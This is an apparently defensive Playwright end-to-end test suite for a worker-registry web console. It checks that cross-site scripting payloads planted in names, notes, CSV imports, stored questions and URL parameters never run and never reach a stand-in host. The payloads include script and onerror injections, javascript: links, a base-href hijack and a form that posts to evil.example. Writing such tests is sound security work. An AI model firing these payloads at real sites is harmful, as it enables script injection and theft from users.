"""Texts that people, lists and officials may plant, in a real browser: nothing of them runs on any page that shows
them, and the page holds them as text."""

from __future__ import annotations

import datetime as dt
from concurrent.futures import ThreadPoolExecutor
from typing import Final

import pytest
from playwright.sync_api import Browser, Page

from bot.db.models import Unanswered
from tests.e2e.browsers import DESKTOP
from tests.office import Client, Office
from tests.unit.console.broadcasting import begin, write
from tests.unit.console.registry import loan, need, people
from tests.unit.console.test_conversations import heard, wished

PAYLOADS: Final = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=\"window.ran=1\">",
    "\"><svg onload=window.ran=1>",
    "'><iframe srcdoc=\"<script>parent.ran=1</script>\">",
    "</textarea></title></style><script>window.ran=1</script>",
    "javascript:window.ran=1",
    "<a href=\"javascript:window.ran=1\" id=planted>x</a>",
    "{{ 7*7 }}${7*7}<b id=planted>bold</b>",
    "\" autofocus onfocus=window.ran=1 x=\"",
    "<style>@import 'https://evil.example/x';</style><base href=https://evil.example/>",
    "<form id=planted action=https://evil.example><input name=csrf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)  # fmt: skip
NAME: Final = "Mita <img src=x onerror=window.ran=1> Das"
ALL: Final = " ".join(PAYLOADS)
REFLECTED: Final = (
    "/conversations?q={}", "/conversations?words={}", "/conversations?district={}", "/workers?place={}",
    "/workers?q={}", "/workers?trade={}", "/workers?district={}", "/workers?status={}", "/workers?after={}",
    "/needs?district={}", "/needs?status={}", "/referrals?status={}", "/referrals?after={}",
    "/training/sessions?q={}", "/training/sessions?programme={}", "/training/scorecard?programme={}",
    "/broadcasts?view={}", "/broadcasts?q={}", "/knowledge?q={}", "/knowledge?words={}", "/knowledge/messages?q={}",
    "/knowledge/questions?q={}", "/insights?district={}", "/insights?days=own&since={}", "/audit?actor={}",
    "/audit?who={}", "/audit?about={}", "/audit?act={}", "/settings?q={}", "/settings?after={}",
    "/workers/privacy?number={}",
    "/workers/table?month={}", "/{}", "/workers/{}", "/training/sessions/{}", "/language?to=en&back={}",
    "/conversations/replies?q={}",
)  # fmt: skip
"""Addresses that say again what was typed, or refuse it."""


def planted(office: Office) -> list[str]:
    """Plants the payloads wherever somebody else's words are shown; the pages that show them."""
    mita = office.client(office.officer(NAME, "state_admin"))
    wish = wished(office)
    number = 0
    for each in PAYLOADS:
        number = heard(office, wish, each)
    assert mita.post(f"/conversations/{wish}/notes", {"note": ALL[:400]}).status_code == 303
    reply = {f"{name}.{lang}": PAYLOADS[1] for name in ("text", "texts") for lang in ("en", "bn", "hi")}
    names = {lang: PAYLOADS[0] for lang in ("en", "bn", "hi")}
    mita.post("/conversations/replies/new", {"title": PAYLOADS[2], "topic": "", **reply, **names})
    which = people(office, name=PAYLOADS[1][:60], place=PAYLOADS[2])[0]
    wanted = need(office, employer=PAYLOADS[1], place=PAYLOADS[0])
    asked = loan(office, PAYLOADS[3][:60])
    draft = begin(mita, PAYLOADS[1])
    texts = {f"texts.{lang}": f"{PAYLOADS[0]} {PAYLOADS[1]} {PAYLOADS[8]}" for lang in ("en", "bn", "hi")}
    senders = {f"sender.{lang}": PAYLOADS[2][:40] for lang in ("en", "bn", "hi")}
    assert write(mita, draft, **texts, **senders, name=PAYLOADS[1]).status_code in (303, 422)
    upload = _listed(mita)
    with office.database.session() as db:
        for each in PAYLOADS:
            db.add(
                Unanswered(
                    text=each, language="en", register="roman", kind="unknown", guesses=[],
                    asked_on=dt.date(2026, 11, 20),
                )
            )  # fmt: skip
    office.officer(PAYLOADS[1][:64], "help_desk", {"malda"})
    return [
        "/", "/conversations", f"/conversations/{wish}", f"/conversations/{wish}/messages",
        f"/conversations/{wish}/messages/{number}/show", "/conversations/replies", "/workers", f"/workers/{which}",
        "/needs", f"/needs/{wanted}", "/referrals", f"/referrals/{asked}", "/broadcasts", draft,
        *(f"{draft}?step={step}" for step in ("texts", "extras", "people", "preview", "send")), upload,
        "/knowledge/questions", "/knowledge/questions/1", "/audit", "/settings", "/account", "/insights",
    ]  # fmt: skip


def _listed(client: Client) -> str:
    """The trial run of a list whose every cell is a payload."""
    rows = ["Name,Mobile,Trade,District,Place"]
    for at, each in enumerate(PAYLOADS):
        cell = '"' + each.replace('"', '""') + '"'
        rows.append(f"{cell},98300{at:05d},{cell},Malda,{cell}")
    file = ("<img src=x onerror=window.ran=1>.csv", "\n".join(rows).encode(), "text/csv")
    answer = client.post("/workers/import", files={"file": file})
    assert answer.status_code == 303, answer.text
    return str(answer.headers["location"]).removeprefix("/console")


def _quiet(page: Page, requests: list[str], path: str) -> None:
    assert page.evaluate("window.ran") is None, f"{path}: something ran"
    assert page.locator("#planted").count() == 0, f"{path}: an element was planted"
    assert page.locator("main img[src=x], main iframe, base, meta[http-equiv=refresh]").count() == 0, path
    assert page.locator("a[href^='javascript:'], [onerror], [onload], [onfocus]").count() == 0, path
    assert not [one for one in requests if "evil.example" in one], path


@pytest.fixture(scope="module")
def pages(office: Office) -> list[str]:
    with ThreadPoolExecutor(1) as apart:  # the browser's loop runs in this thread
        return apart.submit(planted, office).result()


@pytest.mark.parametrize("language", ["en", "bn"])
def test_nothing_that_was_planted_runs(
    browser: Browser, office: Office, url: str, pages: list[str], language: str
) -> None:
    officer = office.officer(NAME, "state_admin", language=language)
    context = browser.new_context(viewport=DESKTOP)
    context.add_cookies([{"name": "console", "value": office.cookie(officer), "url": url}])
    page, requests, troubles, seen = context.new_page(), [], [], 0
    page.on("request", lambda one: requests.append(one.url))
    page.on("console", lambda said: troubles.append(said.text) if "Content Security Policy" in said.text else None)
    page.on("dialog", lambda one: (troubles.append(one.message), one.dismiss()))
    for path in pages:
        answer = page.goto(url + path)
        assert answer is not None and answer.status == 200, path
        _quiet(page, requests, path)
        seen += any(each[:20] in page.content() or each[:20] in page.inner_text("body") for each in PAYLOADS)
    assert seen >= 12, "the attack shows its texts"
    # The policy had nothing to stop: the pages themselves hold texts.
    assert not troubles, troubles
    context.close()


def test_nothing_in_an_address_runs(browser: Browser, office: Office, url: str) -> None:
    context = browser.new_context(viewport=DESKTOP)
    context.add_cookies([{"name": "console", "value": office.cookie(office.officer("Rina Sen", "state_admin")),
                          "url": url}])  # fmt: skip
    page = context.new_page()
    requests: list[str] = []
    troubles: list[str] = []
    page.on("request", lambda one: requests.append(one.url.partition("?")[0]))
    page.on("console", lambda said: troubles.append(said.text) if "Content Security Policy" in said.text else None)
    for path in REFLECTED:
        for each in (PAYLOADS[2], PAYLOADS[8]):
            typed = page.evaluate("encodeURIComponent", each)
            answer = page.goto(url + path.format(typed))
            assert answer is not None and answer.status < 500, path
            _quiet(page, requests, path)
            assert each not in page.content() or "<" not in each, path
    assert not troubles, troubles
    context.close()


def test_the_policy_stops_what_would_run(browser: Browser, office: Office, url: str) -> None:
    """Were a text to get into a page after all, the browser would not run it, nor send a form elsewhere."""
    context = browser.new_context(viewport=DESKTOP)
    context.add_cookies([{"name": "console", "value": office.cookie(office.officer("Rina Sen", "state_admin")),
                          "url": url}])  # fmt: skip
    page = context.new_page()
    page.goto(url + "/account")
    page.evaluate(
        """() => { const box = document.createElement("div");
        box.innerHTML = '<img src=x onerror="window.ran=1"><svg onload="window.ran=1"></svg>';
        document.body.append(box);
        const script = document.createElement("script"); script.textContent = "window.ran=1";
        document.body.append(script);
        const other = document.createElement("script"); other.src = "https://evil.example/x.js";
        other.onload = () => { window.ran = 1; }; document.body.append(other); }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    context.close()
